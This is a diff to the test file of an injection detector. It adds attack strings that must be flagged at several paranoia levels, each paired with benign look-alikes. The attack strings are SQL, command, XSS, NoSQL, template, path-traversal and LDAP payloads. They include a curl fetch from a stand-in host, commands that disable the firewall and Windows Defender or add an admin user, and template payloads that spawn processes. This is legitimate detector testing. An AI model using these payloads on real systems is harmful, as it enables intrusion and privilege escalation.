@@ -159,6 +159,181 @@ for (const [cls, { attacks, benign }] of Object.entries(cases) as Array<
   });
 }
 
+/**
+ * Shapes that public payload lists showed level 1 missing (see docs/injection.md, "Measured on public lists"),
+ * each written here in our own words with a look-alike that must pass. Every attack must also be flagged at
+ * levels 2 and 3 (by some class: the label is the first class that matches).
+ */
+const gaps: Array<{ rule: string; cls: InjectionClass; attacks: string[]; benign: string[] }> = [
+  {
+    rule: 'a boolean after a closed quote or number, then a tautology without a literal comparison',
+    cls: 'sqli',
+    attacks: [
+      "') or ('k')=('k",
+      '") or ("k")=("k',
+      ") or ('q'='q",
+      ') or (b=b',
+      '7 or uid=uid',
+      "9 or 'abc' in ('abc')",
+      "5' or 'z' in ('z')-- ",
+      '3 or 4 between 2 and 8',
+      '2 or login like char(37,37)',
+      '8 or isnull(1/0)#',
+      'anything or col=col--',
+    ],
+    benign: [
+      'select the best from the menu',
+      '1 or 2 items',
+      'between 9 and 5',
+      'Open 1 or 2 items between 9 and 5 daily',
+      "O'Brien or O'Neil",
+      "He said 'yes' or 'no' in (brackets)",
+      'one or more like this',
+      '=IF(A1=1,"yes","no")',
+    ],
+  },
+  {
+    rule: 'HAVING and CASE WHEN conditions and branches on two literals',
+    cls: 'sqli',
+    attacks: [
+      '4 having 3=3',
+      '4 group by owner having 2=2--',
+      '(case when 77=77 then 1 else null end)',
+      'iif(12=12,1,1/0)',
+      'elt(31=31,7)',
+      'make_set(5=5,2)',
+      '(61=61)*62',
+      "k'exec master..xp_dirtree '\\\\h\\s'--",
+    ],
+    benign: [
+      'group by team having fun',
+      'Kids having 2 or 3 snacks',
+      'In case you forgot, 2=2 still holds',
+      '=IF(B2>100,"High","Low")',
+      '(2+2)*3 = 12',
+      "It's the exec summary: 'dir' means direction",
+    ],
+  },
+  {
+    rule: 'a lone & opening the value, fetch commands with a URL, Windows admin verbs, Shellshock',
+    cls: 'cmdi',
+    attacks: [
+      '& curl https://h.example/x.sh',
+      'q & wget http://h.example/y',
+      '& sleep 9',
+      '& net localgroup admins eve /add',
+      '& netsh advfirewall set allprofiles state off',
+      '& type C:\\boot.ini',
+      '| reg query HKLM\\Software\\Foo',
+      '; sc stop WinDefend',
+      '() { :;}; echo shellshock test',
+    ],
+    benign: [
+      'Tom & Jerry',
+      'rock & roll',
+      'Java & Python developers wanted',
+      '& more',
+      '& sleep well',
+      'Remove the reg add step from the guide',
+      '() => { return 1; }',
+      'Press & hold; sleep mode',
+    ],
+  },
+  {
+    rule: 'attribute breakouts glued to the quote and handlers of any name given code',
+    cls: 'xss',
+    attacks: [
+      '"onpointerenter=alert(7)//',
+      "'onanimationstart=prompt`1`><b x='",
+      '"autofocus/onfocusin=confirm(2)//',
+      '<b onorientationchange=alert(3)>',
+      '<p onhelp=top.print()>',
+    ],
+    benign: [
+      '"online=true"',
+      "'onboarding=done'",
+      'Set "onclick=handler" in the markup',
+      'data-on="click"',
+      '"once=twice"',
+    ],
+  },
+  {
+    rule: '$where JavaScript: return in parentheses, clock busy loops, required modules',
+    cls: 'nosqli',
+    attacks: [
+      "';return(true);var k='x",
+      'var t=new Date();do{var u=new Date();}while(u-t<3000)',
+      '1;var s=Date.now();while(Date.now()-s<2000){}',
+      "require('child_process').execSync('id')",
+    ],
+    benign: [
+      'Shipping; return (see policy) within 30 days',
+      "const fs = require('fs'); fs.readFileSync(p)",
+      'Created: new Date(2020, 1, 1)',
+    ],
+  },
+  {
+    rule: 'FreeMarker square brackets, engine objects in blocks, dotted walks to secrets',
+    cls: 'ssti',
+    attacks: [
+      '[=6*6]',
+      '[="freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id")]',
+      '{% for k, v in settings.items() %}{{ k }}{% endfor %}',
+      '{{ form.instance.owner.password }}',
+      '{{ u.profile.password }}',
+    ],
+    benign: [
+      'See [=] and [=x]',
+      'x[=y]',
+      '{{ password }}',
+      'Hello {{ order.items.0.name }}',
+      '{% for i in cart %}{{ i }}{% endfor %}',
+    ],
+  },
+  {
+    rule: 'absolute paths into system directories and server logs',
+    cls: 'path-traversal',
+    attacks: [
+      '/etc/exports',
+      '/boot/loader.conf',
+      '/root/notes.txt',
+      'd:\\nginx\\logs\\access.log',
+      'c:\\xampp\\apache\\logs\\access.log',
+      '/.netrc',
+      '../logs/error_log',
+    ],
+    benign: [
+      '/etc is where configs live',
+      '/etc/',
+      'C:\\Users\\me\\Documents\\report.xml',
+      '/var/www/html/index.html',
+      '/api/v1/logs/latest',
+    ],
+  },
+  {
+    rule: 'a combinator glued to an assertion after a closed filter',
+    cls: 'ldap',
+    attacks: ['bob*)((|mail=*)', 'ann)(|uid=ann'],
+    benign: ['Smith (Jr.)(|see notes)', '(a)(|b)', 'f(x)(&y)'],
+  },
+];
+
+const p2 = compileDetector({ paranoia: 2 });
+for (const gap of gaps) {
+  describe(`${gap.cls}: ${gap.rule}`, () => {
+    for (const a of gap.attacks) {
+      test(`flags ${JSON.stringify(a)} at paranoia 1, and at 2 and 3`, () => {
+        assert.equal(p1.scanValue(a), gap.cls);
+        assert.notEqual(p2.scanValue(a), undefined);
+        assert.notEqual(p3.scanValue(a), undefined);
+      });
+    }
+    for (const b of gap.benign) {
+      test(`passes ${JSON.stringify(b)} at paranoia 1`, () => assert.equal(p1.scanValue(b), undefined));
+    }
+  });
+}
+
 describe('detector options', () => {
   test('a detector limited to some classes ignores the others', () => {
     const onlySql = compileDetector({ paranoia: 1, classes: ['sqli'] });
